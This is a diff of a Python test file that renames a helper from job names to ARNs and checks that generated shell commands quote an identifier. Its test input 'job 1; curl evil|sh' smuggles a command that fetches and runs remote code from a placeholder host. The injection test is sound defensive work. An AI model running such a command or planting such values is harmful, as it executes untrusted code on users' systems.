@@ -117,12 +117,12 @@ def test_better_evidence_is_advised_where_the_figure_is_what_is_open_and_settles
     assert world.content("job")["verdict"] == "below"
 
 
-def renamed(content: dict[str, Any], name: str) -> dict[str, Any]:
-    """A record of a run of another name: other services have names that SageMaker's cannot be."""
-    return {**content, "job": {**content["job"], "name": name}}
+def renamed(content: dict[str, Any], arn: str) -> dict[str, Any]:
+    """A record of a run of another ARN: other services have names that SageMaker's cannot be."""
+    return {**content, "job": {**content["job"], "arn": arn}}
 
 
-def test_a_name_that_a_shell_would_read_is_quoted_in_every_command() -> None:
+def test_an_arn_that_a_shell_would_read_is_quoted_in_every_command() -> None:
     content = renamed(doubted(hours=3000).content("job"), "job 1; curl evil|sh")
     advised = [each for each in remedies(content) if BETTER in each]
     assert advised == [
